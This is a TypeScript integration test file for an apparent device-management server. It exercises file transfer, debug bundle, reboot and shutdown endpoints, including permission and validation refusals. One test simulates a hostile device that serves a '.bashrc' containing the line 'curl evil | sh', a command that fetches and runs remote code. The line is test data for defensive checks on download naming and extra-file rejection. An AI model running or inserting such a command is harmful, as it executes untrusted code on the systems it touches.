import { createHash, randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestContext } from 'vitest';
import {
  TRANSFER_CONTENT_TYPE,
  TransferDecoder,
  encodeChunkPrefix,
  encodeDir,
  encodeEnd,
  encodeFileEnd,
  encodeFileStart,
} from '@outpost/shared';
import type { Channel } from '@outpost/shared';
import { perAttempt } from '../helpers/per-attempt.js';
import { startTestServer } from '../helpers/test-server.js';
import type { TestServer } from '../helpers/test-server.js';
import { ScriptedAgent, createDevice } from './scripted-agent.js';

const region = 'projects/ops/regions/eu';
let server: TestServer;
const agents: ScriptedAgent[] = [];
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(async () => {
  await Promise.all(agents.map((a) => a.close()));
  await server.dispose();
});

async function connectedDevice(context: TestContext, id: string): Promise<{ name: string; agent: ScriptedAgent }> {
  const name = perAttempt(context, `${region}/devices/${id}`);
  const agent = await ScriptedAgent.connect(server.url, await createDevice(server.admin, name));
  agents.push(agent);
  return { name, agent };
}

async function keyWith(permission: string, scope = 'projects/ops'): Promise<string> {
  const { secret } = await server.admin.request<{ secret: string }>('POST', '/v1/apiKeys', {
    body: { displayName: 'k', grants: [{ permission, scope }] },
  });
  return secret;
}

const ADMIN = { authorization: `Bearer ${'test-admin-key-0123456789abcdef-0123'}` };
const url = (device: string, verb: string, query: Record<string, string> = {}): string =>
  `${server.url}/v1/${device}:${verb}${Object.keys(query).length > 0 ? `?${new URLSearchParams(query)}` : ''}`;

async function errorOf(response: Response): Promise<{ code: number; status: string; message: string }> {
  return ((await response.json()) as { error: { code: number; status: string; message: string } }).error;
}

/** The transfer stream of one file. */
function fileStream(name: string, bytes: Buffer): Buffer {
  return Buffer.concat([
    encodeFileStart(name, 0o644, bytes.length),
    encodeChunkPrefix(bytes.length),
    bytes,
    encodeFileEnd(createHash('sha256').update(bytes).digest('hex'), bytes.length),
    encodeEnd(1, bytes.length),
  ]);
}

describe('file transfer endpoints: refusals before any byte moves', () => {
  it('need services/proxies.outpost/permissions/projects.connect on the device project', async (context) => {
    const { name } = await connectedDevice(context, 'perm-box');
    const devicesOnly = await keyWith('services/devices.outpost/permissions/*');
    for (const [verb, init] of [
      ['upload', { method: 'POST', body: 'x', headers: { 'content-type': 'application/octet-stream' } }],
      ['download', {}],
    ] as const) {
      const response = await fetch(url(name, verb, { path: '/tmp/x' }), {
        ...init,
        headers: { ...('headers' in init ? init.headers : {}), authorization: `Bearer ${devicesOnly}` },
      });
      expect(response.status).toBe(403);
      expect(await errorOf(response)).toMatchObject({
        status: 'PERMISSION_DENIED',
        message: 'missing permission services/proxies.outpost/permissions/projects.connect on projects/ops',
      });
    }
    const elsewhere = await keyWith('services/proxies.outpost/permissions/projects.connect', 'projects/other');
    const response = await fetch(url(name, 'download', { path: '/tmp/x' }), {
      headers: { authorization: `Bearer ${elsewhere}` },
    });
    expect(response.status).toBe(403);
    expect((await fetch(url(name, 'download', { path: '/tmp/x' }))).status).toBe(401);
  });

  it('refuse relative upload paths, JSON bodies, unknown and offline devices, and directories as raw bytes', async (context) => {
    const offline = perAttempt(context, `${region}/devices/asleep`);
    await createDevice(server.admin, offline);
    const post = (device: string, query: Record<string, string>, contentType = 'application/octet-stream') =>
      fetch(url(device, 'upload', query), {
        method: 'POST',
        headers: { ...ADMIN, 'content-type': contentType },
        body: contentType === 'application/json' ? '{"a":1}' : 'bytes',
      });
    expect(await errorOf(await post(offline, { path: 'relative/file' }))).toMatchObject({
      status: 'INVALID_ARGUMENT',
      message: 'the device path "relative/file" must be absolute (start with /)',
    });
    expect(await errorOf(await post(offline, { path: '/x' }, 'application/json'))).toMatchObject({
      status: 'INVALID_ARGUMENT',
    });
    expect(await errorOf(await post(offline, {}))).toMatchObject({ message: 'the query parameter "path" is required' });
    expect(await errorOf(await post(`${region}/devices/nope`, { path: '/x' }))).toMatchObject({ status: 'NOT_FOUND' });
    const unavailable = await post(offline, { path: '/x' });
    expect(unavailable.status).toBe(503);
    expect((await errorOf(unavailable)).message).toBe(`device "${offline}" is offline: it must be connected for this`);
    const raw = await fetch(url(offline, 'download', { path: '/etc', recursive: 'true' }), { headers: ADMIN });
    expect(await errorOf(raw)).toMatchObject({ status: 'INVALID_ARGUMENT', message: expect.stringMatching(/scp -r/) });
  });
});

describe('relaying over the device channel', () => {
  it('downloads one file as raw bytes with its name and length; the device is told when the client leaves', async (context) => {
    const { name, agent } = await connectedDevice(context, 'relay-box');
    const small = randomBytes(300_000);
    const closed: unknown[] = [];
    agent.onChannel('transfer.download', (channel: Channel, args) => {
      const { path } = args as { path: string };
      void (async () => {
        try {
          if (path === '/small.bin') {
            await channel.write(fileStream('small.bin', small));
            await channel.end();
            return;
          }
          // an endless file: only the client going away ends it
          await channel.write(encodeFileStart('endless.bin', 0o644));
          for (;;) {
            await channel.write(encodeChunkPrefix(65536));
            await channel.write(randomBytes(65536));
          }
        } catch (err) {
          closed.push(err);
        }
      })();
      return { kind: 'file', name: path.slice(1), size: 0 };
    });
    const response = await fetch(url(name, 'download', { path: '/small.bin' }), { headers: ADMIN });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-length')).toBe('300000');
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="small.bin"; filename*=UTF-8''small.bin`,
    );
    expect(Buffer.from(await response.arrayBuffer()).equals(small)).toBe(true);

    const controller = new AbortController();
    const endless = await fetch(url(name, 'download', { path: '/endless.bin' }), {
      headers: ADMIN,
      signal: controller.signal,
    });
    const reader = endless.body!.getReader();
    await reader.read();
    controller.abort();
    await expect.poll(() => closed.length, { timeout: 20_000 }).toBe(1);
    expect(closed[0]).toMatchObject({ status: 'ABORTED', message: 'the client went away' });
  });

  it('names a raw download after the requested path, never the device, and refuses more than one file', async (context) => {
    const { name, agent } = await connectedDevice(context, 'hostile-box');
    agent.onChannel('transfer.download', (channel: Channel, args) => {
      const { path } = args as { path: string };
      const one = fileStream('.bashrc', Buffer.from('curl evil | sh\n'));
      // a directory, or a second file, where one file was asked for
      const stream =
        path === '/var/log/syslog'
          ? one
          : path === '/dir'
            ? Buffer.concat([encodeDir('.ssh', 0o700), one])
            : Buffer.concat([one.subarray(0, one.length - encodeEnd(1, 15).length), one]);
      void channel
        .write(stream)
        .then(() => channel.end())
        .catch(() => undefined);
      return {};
    });
    const response = await fetch(url(name, 'download', { path: '/var/log/syslog' }), { headers: ADMIN });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="syslog"; filename*=UTF-8''syslog`);
    expect(await response.text()).toBe('curl evil | sh\n');
    const dir = await fetch(url(name, 'download', { path: '/dir' }), { headers: ADMIN });
    expect(await errorOf(dir)).toMatchObject({
      status: 'FAILED_PRECONDITION',
      message: 'the device sent more than the one file asked for',
    });
    const twoFiles = await fetch(url(name, 'download', { path: '/two' }), { headers: ADMIN });
    await expect(twoFiles.arrayBuffer()).rejects.toThrow();
  });

  it('uploads: the device answers with its summary, or its refusal while the client is still sending', async (context) => {
    const { name, agent } = await connectedDevice(context, 'upload-box');
    agent.onChannel('transfer.upload', (channel: Channel, args) => {
      const { path } = args as { path: string };
      void (async () => {
        const decoder = new TransferDecoder();
        let bytes = 0;
        try {
          for await (const piece of channel) {
            for (const event of decoder.push(piece)) {
              if (event.kind === 'fileData') bytes += event.bytes.length;
              if (path.startsWith('/refuse') && bytes > 1_000_000) {
                channel.abort({ status: 'RESOURCE_EXHAUSTED', message: `${path}: no space left on the device` });
                return;
              }
            }
          }
          await channel.write(Buffer.from(JSON.stringify({ files: 1, bytes, destination: `${path}small` })));
          await channel.end();
        } catch {
          // aborted
        }
      })();
      return {};
    });
    const ok = await fetch(url(name, 'upload', { path: '/in/' }), {
      method: 'POST',
      headers: { ...ADMIN, 'content-type': TRANSFER_CONTENT_TYPE },
      body: fileStream('small', randomBytes(1000)),
    });
    expect(ok.status).toBe(200);
    expect(await ok.json()).toEqual({ files: 1, bytes: 1000, destination: '/in/small' });

    const refused = await fetch(url(name, 'upload', { path: '/refuse/', name: 'big.bin' }), {
      method: 'POST',
      headers: { ...ADMIN, 'content-type': 'application/octet-stream' },
      body: randomBytes(20_000_000),
    });
    expect(refused.status).toBe(429);
    expect(await errorOf(refused)).toMatchObject({ message: '/refuse/: no space left on the device' });
  });

  it('streams a debug bundle as application/gzip under a suggested file name', async (context) => {
    const { name, agent } = await connectedDevice(context, 'bundle-box');
    agent.onChannel('debug.bundle', (channel: Channel) => {
      void channel.write(Buffer.from('not really gzip')).then(() => channel.end());
      return {};
    });
    const response = await fetch(url(name, 'collectDebugBundle'), { headers: ADMIN });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/gzip');
    expect(response.headers.get('content-disposition')).toMatch(
      new RegExp(`^attachment; filename="outpost-debug-${name.split('/').at(-1)}-\\d{8}T\\d{6}Z\\.tar\\.gz"$`),
    );
    expect(await response.text()).toBe('not really gzip');
    const noBundle = await keyWith('services/proxies.outpost/permissions/projects.connect');
    const denied = await fetch(url(name, 'collectDebugBundle'), { headers: { authorization: `Bearer ${noBundle}` } });
    expect(await errorOf(denied)).toMatchObject({ message: expect.stringMatching(/devices\.collectDebugBundle/) });
  });
});

describe(':reboot and :shutdown', () => {
  it('are commands over the device connection; UNAVAILABLE when it is offline', async (context) => {
    const { name, agent } = await connectedDevice(context, 'power-box');
    const asked: string[] = [];
    agent.on('power.reboot', () => void asked.push('reboot'));
    agent.on('power.shutdown', () => void asked.push('shutdown'));
    expect(await server.admin.request('POST', `/v1/${name}:reboot`, { body: {} })).toEqual({ name, action: 'REBOOT' });
    expect(await server.admin.request('POST', `/v1/${name}:shutdown`, { body: {} })).toEqual({
      name,
      action: 'SHUTDOWN',
    });
    expect(asked).toEqual(['reboot', 'shutdown']);
    // :reboot takes force and ignoreLocks (booleans) and nothing else; :shutdown an empty body
    await expect(server.admin.request('POST', `/v1/${name}:reboot`, { body: { now: true } })).rejects.toMatchObject({
      status: 'INVALID_ARGUMENT',
    });
    await expect(server.admin.request('POST', `/v1/${name}:reboot`, { body: { force: 'yes' } })).rejects.toMatchObject({
      status: 'INVALID_ARGUMENT',
    });
    await expect(server.admin.request('POST', `/v1/${name}:shutdown`, { body: { force: true } })).rejects.toMatchObject(
      { status: 'INVALID_ARGUMENT' },
    );
    expect(asked).toEqual(['reboot', 'shutdown']);
    await agent.close();
    await expect(server.admin.request('POST', `/v1/${name}:reboot`, { body: {} })).rejects.toMatchObject({
      status: 'UNAVAILABLE',
      message: `cannot reboot: device "${name}" is offline: the command needs it connected`,
    });
  });
});
